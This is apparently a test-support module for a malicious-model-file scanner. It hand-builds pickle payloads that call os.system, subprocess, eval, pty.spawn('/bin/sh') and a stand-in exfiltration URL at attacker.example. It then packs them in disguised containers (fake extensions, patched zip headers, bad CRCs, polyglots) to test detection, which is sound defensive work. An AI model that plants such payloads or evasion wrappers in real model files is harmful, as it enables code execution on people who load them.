"""Hand-written malicious model files for the scanner tests.

Nothing here imports an attacker's callable, calls ``__reduce__`` or unpickles: every payload is emitted
opcode by opcode (protocol 2 ``GLOBAL`` or protocol 4 ``STACK_GLOBAL`` forms), then wrapped in the container
formats loaders accept (raw pickle, torch zip, legacy torch, joblib, npy object arrays, archives, polyglots).
"""

from __future__ import annotations

import gzip
import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType

import numpy as np
import pytest
from tests._support.archives import tar_bytes


# -- opcode emitters --------------------------------------------------------------------------------------
def s(text: str) -> bytes:
    """A unicode string operand (BINUNICODE)."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def b(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def g(module: str, name: str, proto: int) -> bytes:
    if proto >= 4:
        return s(module) + s(name) + b"\x93"  # STACK_GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"  # GLOBAL


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def lst(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + b"R"


def wrap(body: bytes, proto: int) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


@dataclass(frozen=True)
class Payload:
    name: str
    target: str | None  # the callable a finding must name (None: flagged by structure)
    body: Callable[[int], bytes]

    def pickle(self, proto: int = 2) -> bytes:
        return wrap(self.body(proto), proto)


def _simple(module: str, name: str, *args: bytes) -> Payload:
    return Payload(f"{module}.{name}", f"{module}.{name}", lambda p: call(g(module, name, p), *args))


def _import_os(p: int) -> bytes:
    return call(g("builtins", "__import__", p), s("os"))


PAYLOADS: list[Payload] = [
    _simple("os", "system", s("id")),
    _simple("posix", "system", s("id")),
    _simple("nt", "system", s("id")),
    _simple("subprocess", "Popen", lst(s("id"))),
    _simple("subprocess", "check_output", lst(s("id"))),
    _simple("subprocess", "run", lst(s("id"))),
    _simple("subprocess", "getoutput", s("id")),
    _simple("builtins", "eval", s("__import__('os').system('id')")),
    _simple("builtins", "exec", s("import os; os.system('id')")),
    _simple("builtins", "compile", s("1"), s("<x>"), s("eval")),
    _simple("builtins", "__import__", s("os")),
    Payload(
        "builtins.getattr",
        "builtins.getattr",
        lambda p: call(call(g("builtins", "getattr", p), _import_os(p), s("system")), s("id")),
    ),
    _simple("__builtin__", "eval", s("1+1")),
    _simple("__builtin__", "exec", s("pass")),
    _simple("__builtin__", "__import__", s("os")),
    _simple("runpy", "run_path", s("/tmp/x.py")),
    _simple("runpy", "_run_code", s("import os"), b"}"),
    _simple("importlib", "import_module", s("os")),
    _simple("pip", "main", lst(s("install"), s("evil"))),
    Payload(
        "operator.attrgetter-chain",
        "operator.attrgetter",
        lambda p: call(call(call(g("operator", "attrgetter", p), s("system")), _import_os(p)), s("id")),
    ),
    Payload(
        "operator.methodcaller-chain",
        "operator.methodcaller",
        lambda p: call(call(g("operator", "methodcaller", p), s("system"), s("id")), _import_os(p)),
    ),
    Payload(
        "functools.partial",
        "functools.partial",
        lambda p: call(call(g("functools", "partial", p), g("os", "system", p), s("id"))),
    ),
    Payload(
        "numpy.__builtins__-stack-global",
        "numpy.__builtins__.get",
        # find_class("numpy", "__builtins__.get") -> dict.get; ("eval") -> eval; (code) -> runs
        lambda p: call(
            call(g("numpy", "__builtins__.get", 4), s("eval")), s("__import__('os').system('id')")
        ),
    ),
    _simple("torch.utils.collect_env", "run", s("id")),
    _simple("uuid", "_get_command_stdout", s("id")),
    _simple("imaplib", "IMAP4_stream", s("id")),
    _simple("_pyrepl.pager", "pipe_pager", s("x"), s("id")),
    _simple("webbrowser", "open", s("http://attacker.example/")),
    Payload(
        "pickle.loads-nested",
        "pickle.loads",
        lambda p: call(g("pickle", "loads", p), b(wrap(call(g("os", "system", 2), s("id")), 2))),
    ),
    Payload(
        "_pickle.loads-nested",
        "_pickle.loads",
        lambda p: call(g("_pickle", "loads", p), b(wrap(call(g("os", "system", 2), s("id")), 2))),
    ),
    _simple("code", "interact", s("banner")),
    _simple("pty", "spawn", s("/bin/sh")),
    _simple("ctypes", "CDLL", s("libc.so.6")),
    _simple("pandas", "read_csv", s("http://attacker.example/exfil?token=secret")),
    Payload(
        "stack-global-computed-operands",
        None,
        # builtins.str is allowed, but its result is not a plain string the scanner can read
        lambda p: call(call(g("builtins", "str", p), s("os")) + s("system") + b"\x93", s("id")),
    ),
    Payload("extension-code", "<ext 1>", lambda p: b"\x82\x01" + tup(s("id")) + b"R"),
    Payload(
        "memo-operands",
        "os.system",
        lambda p: (
            s("os")
            + b"q\x01"
            + b"0"
            + s("system")
            + b"q\x02"
            + b"0"
            + b"h\x01h\x02\x93"
            + tup(s("id"))
            + b"R"
        ),
    ),
    Payload("inst-opcode", "os.system", lambda p: b"(" + s("id") + b"ios\nsystem\n"),
    Payload("obj-opcode", "os.system", lambda p: b"(" + g("os", "system", p) + s("id") + b"o"),
    Payload(
        "build-on-class",
        "torch.Tensor",
        lambda p: g("torch", "Tensor", p) + b"}" + s("__module__") + s("evil") + b"s" + b"b",
    ),
]


# -- containers -------------------------------------------------------------------------------------------
def torch_zip(pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", pkl)
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/data/0", b"\x00" * 16)
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


def patch_local_header(
    data: bytes, name: bytes, *, new_name: bytes | None = None, flags: int | None = None
) -> bytes:
    """Rewrite the local header of member ``name`` (the central directory keeps the original)."""
    out = bytearray(data)
    idx = out.find(b"PK\x03\x04")
    while idx >= 0:
        nlen = struct.unpack_from("<H", out, idx + 26)[0]
        if out[idx + 30 : idx + 30 + nlen] == name:
            if new_name is not None:
                assert len(new_name) == len(name)
                out[idx + 30 : idx + 30 + nlen] = new_name
            if flags is not None:
                struct.pack_into("<H", out, idx + 6, flags)
            return bytes(out)
        idx = out.find(b"PK\x03\x04", idx + 4)
    raise AssertionError("member not found")


def corrupt_crc(data: bytes) -> bytes:
    """Flip the CRC of every entry in both headers (loaders that skip CRC checks still load it)."""
    out = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        idx = out.find(sig)
        while idx >= 0:
            crc = struct.unpack_from("<I", out, idx + off)[0]
            struct.pack_into("<I", out, idx + off, crc ^ 0xDEADBEEF)
            idx = out.find(sig, idx + 4)
    return bytes(out)


def legacy_torch(pkl: bytes) -> bytes:
    magic = wrap(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little"), 2)
    proto = wrap(b"M\xe9\x03", 2)  # 1001
    sys_info = wrap(b"}", 2)
    keys = wrap(b"]", 2)
    return magic + proto + sys_info + pkl + keys


def legacy_torch_tar(pkl: bytes) -> bytes:
    members = {
        "sys_info": wrap(b"}", 2),
        "pickle": pkl,
        "storages": wrap(b"K\x00", 2),
        "tensors": wrap(b"K\x00", 2),
    }
    return tar_bytes(members)


def joblib_object_array(pkl: bytes) -> bytes:
    """joblib's layout: a NumpyArrayWrapper for an object array, followed by the nested pickle it reads."""
    p = 4
    dtype = (
        call(g("numpy", "dtype", p), s("O8"), b"\x89", b"\x88")
        + tup(b"K\x03", s("|"), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x3f")
        + b"b"
    )
    state = (
        b"}("
        + s("subclass")
        + g("numpy", "ndarray", p)
        + s("shape")
        + b"K\x01\x85"
        + s("order")
        + s("C")
        + s("dtype")
        + dtype
        + s("allow_mmap")
        + b"\x88"
        + b"u"
    )
    outer = b"\x80\x04" + g("joblib.numpy_pickle", "NumpyArrayWrapper", p) + b")\x81" + state + b"b"
    return outer + pkl + b"."


def npy_object(pkl: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pkl


def npz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def tar_gz(members: dict[str, bytes]) -> bytes:
    return gzip.compress(tar_bytes(members))


def polyglot(pkl: bytes) -> bytes:
    """A pickle followed by a valid zip: torch.load unpickles offset 0, zip tools see the archive."""
    arr = io.BytesIO()
    np.save(arr, np.arange(4, dtype=np.float32))
    benign_zip = npz({"weights.npy": arr.getvalue()})
    return pkl + benign_zip


FORMS: dict[str, tuple[str, Callable[[Payload], bytes]]] = {
    # form: (file name with a deliberately wrong or misleading extension, builder)
    "pickle-p2": ("model.safetensors", lambda p: p.pickle(2)),
    "pickle-p4": ("weights.png", lambda p: p.pickle(4)),
    "torch-zip": ("model.txt", lambda p: torch_zip(p.pickle(2))),
    "torch-zip-renamed-local-header": (
        "model.pt",
        lambda p: patch_local_header(
            torch_zip(p.pickle(2)), b"archive/data.pkl", new_name=b"archive/data.pkx"
        ),
    ),
    "torch-zip-descriptor-flag": (
        "model.pt",
        lambda p: patch_local_header(torch_zip(p.pickle(2)), b"archive/data.pkl", flags=0x8),
    ),
    "torch-zip-bad-crc": ("model.pt", lambda p: corrupt_crc(torch_zip(p.pickle(2)))),
    "torch-legacy": ("model.json", lambda p: legacy_torch(p.pickle(2))),
    "torch-legacy-tar": ("model.tar.txt", lambda p: legacy_torch_tar(p.pickle(2))),
    "joblib-gzip": ("model.npy", lambda p: gzip.compress(p.pickle(4))),
    "joblib-zlib": ("model.pkl", lambda p: zlib.compress(p.pickle(4))),
    "joblib-object-array": ("model.joblib", lambda p: joblib_object_array(p.pickle(4))),
    "npy-object": ("array.safetensors", lambda p: npy_object(p.pickle(2))),
    "npz-object": ("arrays.npz", lambda p: npz({"arr_0.npy": npy_object(p.pickle(2))})),
    "tar-gz": ("bundle.onnx", lambda p: tar_gz({"sub/model.bin": p.pickle(4)})),
    "polyglot-pickle-zip": ("model.zip", lambda p: polyglot(p.pickle(2))),
}


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    if "payload" in metafunc.fixturenames:
        metafunc.parametrize("payload", PAYLOADS, ids=[p.name for p in PAYLOADS])
    if "form" in metafunc.fixturenames:
        metafunc.parametrize("form", sorted(FORMS))


@pytest.fixture
def craft() -> ModuleType:
    """This module: the opcode emitters and container builders."""
    return sys.modules[__name__]


@pytest.fixture
def write(tmp_path: Path) -> Callable[[str, bytes], Path]:
    def _write(name: str, data: bytes) -> Path:
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    return _write
